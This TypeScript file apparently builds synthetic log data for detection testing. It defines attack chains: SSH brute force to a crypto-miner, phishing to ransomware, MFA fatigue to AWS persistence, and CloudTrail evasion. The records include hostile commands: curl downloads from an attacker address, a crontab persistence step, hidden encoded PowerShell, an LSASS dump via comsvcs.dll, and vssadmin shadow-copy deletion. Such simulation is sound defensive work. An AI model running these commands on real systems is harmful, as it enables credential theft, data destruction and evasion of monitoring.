/**
 * Cross-source chains: one attacker, one victim, one server, seen by every source the attack touches. The CloudTrail
 * records reuse the Stratus Red Team detonation templates (stratus.ts) for the calls they share; the hosts' records
 * are the packs' own attack events (weight 0: never in the benign background); the EDR raises its alerts (ecs-alerts).
 */
import type { ScenarioSpec, StepSpec } from '../types.js';
import { STRATUS } from './stratus.js';
import { processValues, TOOLS } from './windows-tools.js';

/** The record template of a Stratus scenario's step (by scenario and event name). */
function stratusRecord(scenario: string, eventName: string): Readonly<Record<string, unknown>> {
  const s = STRATUS.find((x) => x.name === `stratus.${scenario}`);
  const step = s?.steps.find((st) => (st.record as { eventName?: string } | undefined)?.eventName === eventName);
  if (!step?.record) throw new Error(`library: no ${eventName} in stratus.${scenario}`);
  return step.record;
}

const TLS = { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256' };

/** An API call's record as CloudTrail writes it (the envelope: identity, time, ids, address, client, come from the step). */
function awsCall(service: string, eventName: string, requestParameters: Record<string, unknown>): Readonly<Record<string, unknown>> {
  const host = `${service}.{{victim.region}}.amazonaws.com`;
  return { eventVersion: '1.08', eventSource: `${service}.amazonaws.com`, eventName, awsRegion: '{{victim.region}}', requestParameters, responseElements: null, readOnly: false, eventType: 'AwsApiCall', managementEvent: true, eventCategory: 'Management', tlsDetails: { ...TLS, clientProvidedHostHeader: host } };
}

/** A bucket-level S3 call on one of the victim's buckets (`{{ ct:bucket }}`: the same bucket in every step of the instance). */
function s3Call(eventName: string, request: Record<string, unknown>): Readonly<Record<string, unknown>> {
  const host = '{{ ct:bucket }}.s3.{{victim.region}}.amazonaws.com';
  return {
    eventVersion: '1.10',
    eventSource: 's3.amazonaws.com',
    eventName,
    awsRegion: '{{victim.region}}',
    requestParameters: { ...request, bucketName: '{{ ct:bucket }}', Host: host },
    responseElements: null,
    additionalEventData: { SignatureVersion: 'SigV4', CipherSuite: TLS.cipherSuite, bytesTransferredIn: 0, AuthenticationMethod: 'AuthHeader', 'x-amz-id-2': '{{hex16}}{{hex16}}{{hex8}}=', bytesTransferredOut: 0 },
    requestID: 's3',
    readOnly: false,
    resources: [{ accountId: '{{victim.account}}', type: 'AWS::S3::Bucket', ARN: 'arn:aws:s3:::{{ ct:bucket }}' }],
    eventType: 'AwsApiCall',
    managementEvent: true,
    eventCategory: 'Management',
    tlsDetails: { ...TLS, clientProvidedHostHeader: host },
  };
}

const minutes = (median: number) => ({ min_s: median * 15, median_s: median * 60, max_s: median * 240 });
const seconds = (median: number) => ({ min_s: Math.max(0.2, median / 4), median_s: median, max_s: median * 4 });

/** An alert the EDR or IDS raises on a step (ecs-alerts' attack_alert), about the same host and user. */
function alert(name: string, values: Record<string, string>, techniques: readonly string[], tactic: string, host: StepSpec['host']): StepSpec {
  return {
    name,
    source: 'ecs-alerts',
    event: 'attack_alert',
    techniques,
    tactic,
    after: seconds(20),
    host,
    optional: true,
    values: { attack_id: '{{instance}}', attack_sequence: '{{step.sequence}}', attack_stage: tactic, source_ip: '{{attacker.ip}}', ...values },
  };
}

/** `crontab` run by sudo: the attacker's persistence, as auditd logs the command (hex proctitle as the kernel writes it). */
const CRON_COMMAND = '/usr/bin/crontab /tmp/.ICE-unix/.c';
const CRON_PROCTITLE = Buffer.from('crontab\0/tmp/.ICE-unix/.c').toString('hex').toUpperCase();
const FETCH_COMMAND = '/usr/bin/curl -fsSL http://{{attacker.ip}}/s.sh -o /tmp/.ICE-unix/.s';

/** A Stratus record as the attacker's call from the AWS console session they opened (browser, console credentials). */
function fromConsole(scenario: string, eventName: string): Readonly<Record<string, unknown>> {
  return { ...stratusRecord(scenario, eventName), userAgent: '{{attacker.browser}}', sessionCredentialFromConsole: 'true' };
}

/**
 * Password spray at the identity provider, MFA push fatigue, SSO to the AWS app, the federated console session, IAM
 * persistence with the session the SAML assertion returned, a snapshot shared out. Okta logs the correct password as
 * its own session start; Entra ID in the sign-in whose MFA the victim denies.
 */
function identityChain(idp: 'okta' | 'entra_signin'): ScenarioSpec {
  const okta = idp === 'okta';
  const steps: StepSpec[] = [
    { name: 'spray', source: idp, event: 'spray_attempt', techniques: ['T1110.003'], tactic: 'credential-access', repeat: { min: 20, max: 80, gap: seconds(25) } },
    ...(okta ? [{ name: 'password', source: idp, event: 'password_accepted', techniques: ['T1110.003', 'T1078.004'], tactic: 'initial-access', after: minutes(3) } satisfies StepSpec] : []),
    { name: 'push-denied', source: idp, event: 'mfa_push_denied', techniques: ['T1621'], tactic: 'credential-access', after: okta ? seconds(8) : minutes(3), repeat: { min: 3, max: 12, gap: seconds(45) }, stage_end: true },
    { name: 'push-accepted', source: idp, event: 'mfa_push_accepted', techniques: ['T1621'], tactic: 'credential-access', after: seconds(60), chance: 0.85 },
    alert('alert-fatigue', { alert_rule: 'MFA push accepted after repeated denials from a new network', alert_rule_id: 'IDP-1204', alert_category: 'Credential Access', alert_severity: '73', alert_module: 'identity', alert_product: okta ? 'Okta ThreatInsight' : 'Entra ID Protection', alert_observer_type: 'idp', technique_id: 'T1621', technique_name: 'Multi-Factor Authentication Request Generation', tactic_id: 'TA0006', tactic_name: 'Credential Access' }, ['T1621'], 'credential-access', 'workstation'),
    { name: 'sso-aws', source: idp, event: 'sso', techniques: ['T1078.004'], tactic: 'initial-access', after: seconds(30), values: { app: 'aws' } },
    { name: 'aws-console', source: 'cloudtrail', event: 'federated_console_login', techniques: ['T1078.004'], tactic: 'initial-access', after: seconds(2) },
    { name: 'create-key', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: minutes(4), record: fromConsole('persistence.iam-backdoor-user', 'CreateAccessKey') },
    { name: 'attach-admin', source: 'cloudtrail', event: 'record', techniques: ['T1098.003'], tactic: 'privilege-escalation', after: seconds(20), record: fromConsole('persistence.iam-create-admin-user', 'AttachUserPolicy') },
    { name: 'console-password', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: seconds(40), record: fromConsole('persistence.iam-create-user-login-profile', 'CreateLoginProfile') },
    { name: 'share-snapshot', source: 'cloudtrail', event: 'record', techniques: ['T1537'], tactic: 'exfiltration', after: minutes(15), chance: 0.7, record: fromConsole('exfiltration.ec2-share-ebs-snapshot', 'ModifySnapshotAttribute') },
  ];
  return {
    name: `${okta ? 'okta' : 'entra'}-spray-mfa-fatigue-aws`,
    title: `Password spray at ${okta ? 'Okta' : 'Entra ID'}, MFA push fatigue, the AWS console through SSO, IAM persistence and a snapshot shared out`,
    origin: 'The 2022-2023 pattern of identity-provider intrusions (password spraying, MFA request generation, federation to the cloud console) as CISA, Okta and Microsoft describe it; the AWS calls from Stratus Red Team detonation records',
    victim: { kind: 'human', roles: ['admin', 'developer'], needs: ['sso'] },
    when: 'off_hours',
    steps,
  };
}

const EDR = { alert_module: 'endpoint', alert_product: 'Defender for Endpoint', alert_observer_type: 'edr' };
const ATTACHMENT_DIR = 'C:\\Users\\{{victim.sam}}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{hex8}}';
const LOCKER = { image: 'C:\\Windows\\Temp\\{{hex8}}.exe' };

/**
 * Into a server over SSH: password guesses for a real account from the attacker's address (auth.log and audit.log
 * see the same attempts), then the guess that works. The chain's first stage ends with the guesses.
 */
function sshEntry(guesses: NonNullable<StepSpec['repeat']>, thenAfter: StepSpec['after']): StepSpec[] {
  const from = { attacker_ip: '{{attacker.ip}}' };
  return [
    { name: 'guess', source: 'linux-auth', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', repeat: guesses, values: from },
    { name: 'guess-audit', source: 'linux-auditd', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', alongside: 'guess', after: { min_s: 1.8, median_s: 2, max_s: 2.3 }, values: from, stage_end: true },
    { name: 'login', source: 'linux-auth', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', after: thenAfter, values: from },
    { name: 'login-audit', source: 'linux-auditd', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', values: from },
  ];
}

const MINER_FETCH = '/usr/bin/curl -fsSL http://{{attacker.ip}}/x/kworker.tar.gz -o /var/tmp/.k.tgz';

export const CHAINS: readonly ScenarioSpec[] = [
  {
    name: 'server-crypto-miner',
    title: 'A build server taken over by SSH password guessing runs a crypto-miner for hours',
    origin: 'The cryptojacking campaigns against internet-facing Linux servers that threat reports describe (brute-forced SSH, a downloaded XMRig; MITRE ATT&CK T1110.001, T1105, T1496.001)',
    victim: { kind: 'human', roles: ['admin', 'developer'] },
    server: { roles: ['build'], environment: 'prod' },
    when: 'any',
    steps: [
      ...sshEntry({ min: 10, max: 40, gap: seconds(5) }, seconds(8)),
      { name: 'fetch', source: 'linux-auth', event: 'sudo', techniques: ['T1105'], tactic: 'command-and-control', host: 'server', after: seconds(50), values: { command: MINER_FETCH } },
      { name: 'mine', source: 'host-metrics', event: 'spell', techniques: ['T1496.001'], tactic: 'impact', host: 'server', after: minutes(1), spell: { kind: 'crypto-miner', duration: { min_s: 3 * 3600, median_s: 6 * 3600, max_s: 14 * 3600 } } },
      alert('alert-miner', { alert_rule: 'Sustained full CPU with a known miner process on a server', alert_rule_id: 'HIDS-5120', alert_category: 'Impact', alert_severity: '73', alert_module: 'hids', alert_product: 'Wazuh', alert_observer_type: 'hids', technique_id: 'T1496.001', technique_name: 'Compute Hijacking', tactic_id: 'TA0040', tactic_name: 'Impact' }, ['T1496.001'], 'impact', 'server'),
    ],
  },
  {
    name: 'phishing-to-ransomware',
    title: 'A macro document by e-mail, PowerShell -enc, LSASS dumped, PsExec to the file server, shadow copies deleted, files encrypted',
    origin: 'The human-operated ransomware sequence of The DFIR Report and Microsoft incident write-ups (T1566.001, T1059.001, T1003.001, T1021.002, T1569.002, T1490, T1486)',
    victim: { kind: 'human', needs: ['windows'] },
    server: { roles: ['file'], environment: 'prod' },
    when: 'business_hours',
    steps: [
      { name: 'attachment', source: 'sysmon', event: 'attack_file', techniques: ['T1566.001'], tactic: 'initial-access', values: { ...processValues(TOOLS.outlook, [], TOOLS.outlook, { self: 1, parent: 1 }), atk_file_dir: ATTACHMENT_DIR, atk_file_name: 'Invoice_{{hex8}}.docm', atk_file_ext: 'docm' } },
      { name: 'macro', source: 'sysmon', event: 'attack_process', techniques: ['T1204.002'], tactic: 'execution', after: seconds(40), values: processValues(TOOLS.word, ['/n', `${ATTACHMENT_DIR}\\Invoice_{{hex8}}.docm`, '/o', ''], TOOLS.outlook, { self: 2, parent: 1 }) },
      { name: 'powershell', source: 'sysmon', event: 'attack_process', techniques: ['T1059.001', 'T1027'], tactic: 'execution', after: seconds(6), values: processValues(TOOLS.powershell, ['-nop', '-w', 'hidden', '-enc', '{{attacker.ps_enc}}'], TOOLS.word, { self: 3, parent: 2 }), stage_end: true },
      alert('alert-powershell', { ...EDR, alert_rule: 'Office application started an encoded PowerShell command', alert_rule_id: 'EDR-1042', alert_category: 'Execution', alert_severity: '73', technique_id: 'T1059.001', technique_name: 'PowerShell', tactic_id: 'TA0002', tactic_name: 'Execution', process_name: 'powershell.exe', process_executable: TOOLS.powershell.image, command_line: 'powershell.exe -nop -w hidden -enc {{attacker.ps_enc}}' }, ['T1059.001'], 'execution', 'workstation'),
      { name: 'dump-tool', source: 'sysmon', event: 'attack_process', techniques: ['T1003.001'], tactic: 'credential-access', after: minutes(6), values: processValues(TOOLS.rundll32, ['C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '{{ pack:lsass_pid }}', 'C:\\Users\\Public\\{{hex8}}.dmp', 'full'], TOOLS.powershell, { self: 4, parent: 3 }) },
      { name: 'lsass-access', source: 'sysmon', event: 'attack_lsass_access', techniques: ['T1003.001'], tactic: 'credential-access', after: seconds(0.3), values: { ...processValues(TOOLS.rundll32, [], TOOLS.powershell, { self: 4, parent: 3 }), atk_access: '0x1FFFFF', atk_calltrace: 'C:\\Windows\\System32\\dbgcore.DLL+1a2a4|C:\\Windows\\System32\\comsvcs.dll+3b2e8|C:\\Windows\\System32\\rundll32.exe+3bd4' } },
      alert('alert-lsass', { ...EDR, alert_rule: 'LSASS memory read by rundll32 through comsvcs.dll MiniDump', alert_rule_id: 'EDR-2210', alert_category: 'Credential Access', alert_severity: '99', technique_id: 'T1003.001', technique_name: 'LSASS Memory', tactic_id: 'TA0006', tactic_name: 'Credential Access', process_name: 'rundll32.exe', process_executable: TOOLS.rundll32.image, command_line: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump' }, ['T1003.001'], 'credential-access', 'workstation'),
      { name: 'lateral-logon', source: 'windows-security', event: 'file_share_ntlm', techniques: ['T1021.002', 'T1550.002'], tactic: 'lateral-movement', after: minutes(20), host: 'server', values: { net_logon_id: '{{logon.1}}' } },
      { name: 'psexec-install', source: 'windows-security', event: 'attack_service_install', techniques: ['T1569.002', 'T1543.003'], tactic: 'execution', after: seconds(1), host: 'server', values: { net_logon_id: '{{logon.1}}' } },
      { name: 'psexec-service', source: 'sysmon', event: 'attack_service_process', techniques: ['T1569.002'], tactic: 'execution', after: seconds(3), host: 'server', values: processValues(TOOLS.psexesvc, [], { ...TOOLS.psexesvc, image: 'C:\\Windows\\System32\\services.exe' }, { self: 5, parent: 'services' }) },
      { name: 'shadow-delete', source: 'sysmon', event: 'attack_service_process', techniques: ['T1490'], tactic: 'impact', after: seconds(40), host: 'server', values: processValues(TOOLS.vssadmin, ['delete', 'shadows', '/all', '/quiet'], TOOLS.psexesvc, { self: 6, parent: 5 }) },
      { name: 'locker', source: 'sysmon', event: 'attack_service_process', techniques: ['T1486'], tactic: 'impact', after: seconds(30), host: 'server', values: processValues(LOCKER, ['-path', 'D:\\Shares'], TOOLS.psexesvc, { self: 7, parent: 5 }) },
      { name: 'encrypt', source: 'sysmon', event: 'attack_service_file', techniques: ['T1486'], tactic: 'impact', after: seconds(2), host: 'server', repeat: { min: 40, max: 200, gap: seconds(0.4) }, values: { ...processValues(LOCKER, ['-path', 'D:\\Shares'], TOOLS.psexesvc, { self: 7, parent: 5 }), atk_file_dir: 'D:\\Shares\\{{rep.dir}}', atk_file_name: '{{rep.file}}.locked', atk_file_ext: 'locked' } },
      { name: 'ransom-note', source: 'sysmon', event: 'attack_service_file', techniques: ['T1486'], tactic: 'impact', after: seconds(2), host: 'server', values: { ...processValues(LOCKER, ['-path', 'D:\\Shares'], TOOLS.psexesvc, { self: 7, parent: 5 }), atk_file_dir: 'D:\\Shares', atk_file_name: 'README-RECOVER-FILES.txt', atk_file_ext: 'txt' } },
      alert('alert-ransomware', { ...EDR, alert_rule: 'Ransomware behavior: mass file renames after shadow copy deletion', alert_rule_id: 'EDR-3001', alert_category: 'Ransomware', alert_severity: '99', technique_id: 'T1486', technique_name: 'Data Encrypted for Impact', tactic_id: 'TA0040', tactic_name: 'Impact', process_name: '{{hex8}}.exe', process_executable: 'C:\\Windows\\Temp\\{{hex8}}.exe', command_line: 'C:\\Windows\\Temp\\{{hex8}}.exe' }, ['T1486'], 'impact', 'server'),
    ],
  },
  identityChain('okta'),
  identityChain('entra_signin'),
  {
    name: 'ssh-brute-force-persistence',
    title: 'SSH password guessing on the bastion, a working password, sudo, and a root crontab',
    origin: 'The pattern of SSH brute-force campaigns against internet-facing Linux hosts (MITRE ATT&CK T1110.001, T1053.003)',
    victim: { kind: 'human', roles: ['admin', 'developer'] },
    server: { roles: ['bastion'], environment: 'prod' },
    when: 'off_hours',
    steps: [
      ...sshEntry({ min: 15, max: 60, gap: seconds(4) }, seconds(6)),
      { name: 'fetch', source: 'linux-auth', event: 'sudo', techniques: ['T1105'], tactic: 'command-and-control', host: 'server', after: minutes(1), values: { command: FETCH_COMMAND } },
      { name: 'persist', source: 'linux-auth', event: 'sudo', techniques: ['T1053.003'], tactic: 'persistence', host: 'server', after: minutes(2), values: { command: CRON_COMMAND } },
      {
        name: 'persist-audit',
        source: 'linux-auditd',
        event: 'sudo',
        techniques: ['T1053.003'],
        tactic: 'persistence',
        host: 'server',
        values: { command: CRON_COMMAND, 'command.comm': 'crontab', 'command.exe': '/usr/bin/crontab', 'command.argc': '2', 'command.args': 'a0="crontab" a1="/tmp/.ICE-unix/.c"', 'command.proctitle': CRON_PROCTITLE },
      },
      alert('alert-persist', { alert_rule: 'Cron job created by a session from a rare external address', alert_rule_id: 'HIDS-2217', alert_category: 'Persistence', alert_severity: '73', alert_module: 'hids', alert_product: 'Wazuh', alert_observer_type: 'hids', technique_id: 'T1053.003', technique_name: 'Cron', tactic_id: 'TA0003', tactic_name: 'Persistence', process_name: 'crontab', process_executable: '/usr/bin/crontab', command_line: CRON_COMMAND }, ['T1053.003'], 'persistence', 'server'),
    ],
  },
  {
    name: 'cloudtrail-defense-evasion',
    title: 'Blind the defenders: stop and delete the trail, disable GuardDuty, make a bucket public, remove flow logs and DNS logs',
    origin: 'Stratus Red Team detonation records of cloudtrail-stop, cloudtrail-delete, vpc-remove-flow-logs and dns-delete-logs; GuardDuty and S3 calls as AWS documents their CloudTrail records; in the order intrusions use them',
    victim: { kind: 'human', roles: ['admin'] },
    when: 'off_hours',
    steps: [
      { name: 'stop-logging', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', record: { ...stratusRecord('defense-evasion.cloudtrail-stop', 'StopLogging'), awsRegion: '{{ ct:trailRegion }}', requestParameters: { name: '{{ ct:trailArn }}' }, tlsDetails: { ...TLS, clientProvidedHostHeader: 'cloudtrail.{{ ct:trailRegion }}.amazonaws.com' } } },
      { name: 'delete-trail', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', after: seconds(40), record: { ...stratusRecord('defense-evasion.cloudtrail-delete', 'DeleteTrail'), awsRegion: '{{ ct:trailRegion }}', requestParameters: { name: '{{ ct:trailArn }}' }, tlsDetails: { ...TLS, clientProvidedHostHeader: 'cloudtrail.{{ ct:trailRegion }}.amazonaws.com' } }, stage_end: true },
      { name: 'disable-guardduty', source: 'cloudtrail', event: 'record', techniques: ['T1562.001'], tactic: 'defense-evasion', after: seconds(90), record: awsCall('guardduty', 'UpdateDetector', { detectorId: '{{ ct:detectorId }}', enable: false }) },
      { name: 'remove-public-access-block', source: 'cloudtrail', event: 'record', techniques: ['T1562.007'], tactic: 'defense-evasion', after: minutes(3), record: s3Call('DeletePublicAccessBlock', { publicAccessBlock: '' }) },
      {
        name: 'public-bucket-policy',
        source: 'cloudtrail',
        event: 'record',
        techniques: ['T1530'],
        tactic: 'collection',
        after: seconds(20),
        record: s3Call('PutBucketPolicy', { bucketPolicy: { Version: '2012-10-17', Statement: [{ Sid: 'PublicRead', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::{{ ct:bucket }}/*' }] }, policy: '' }),
      },
      { name: 'remove-flow-logs', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', after: minutes(2), record: stratusRecord('defense-evasion.vpc-remove-flow-logs', 'DeleteFlowLogs') },
      { name: 'delete-dns-logs', source: 'cloudtrail', event: 'record', techniques: ['T1562.008'], tactic: 'defense-evasion', after: seconds(50), record: stratusRecord('defense-evasion.dns-delete-logs', 'DeleteResolverQueryLogConfig') },
    ],
  },
  {
    name: 'iam-persistence-snapshot-exfiltration',
    title: 'Stolen credentials: a backdoor user with an admin policy, a console password, then an EBS snapshot shared out',
    origin: 'Stratus Red Team detonation records of iam-create-admin-user, iam-create-user-login-profile and ec2-share-ebs-snapshot, chained as in cloud intrusion reports',
    victim: { kind: 'human', roles: ['admin', 'developer'] },
    when: 'any',
    steps: [
      { name: 'create-user', source: 'cloudtrail', event: 'record', techniques: ['T1136.003'], tactic: 'persistence', record: stratusRecord('persistence.iam-create-admin-user', 'CreateUser') },
      { name: 'attach-admin', source: 'cloudtrail', event: 'record', techniques: ['T1098.003'], tactic: 'privilege-escalation', after: seconds(3), record: stratusRecord('persistence.iam-create-admin-user', 'AttachUserPolicy') },
      { name: 'create-key', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: seconds(3), record: stratusRecord('persistence.iam-create-admin-user', 'CreateAccessKey'), stage_end: true },
      { name: 'console-password', source: 'cloudtrail', event: 'record', techniques: ['T1098.001'], tactic: 'persistence', after: minutes(3), record: stratusRecord('persistence.iam-create-user-login-profile', 'CreateLoginProfile') },
      { name: 'share-snapshot', source: 'cloudtrail', event: 'record', techniques: ['T1537'], tactic: 'exfiltration', after: minutes(20), chance: 0.8, record: stratusRecord('exfiltration.ec2-share-ebs-snapshot', 'ModifySnapshotAttribute') },
    ],
  },
];
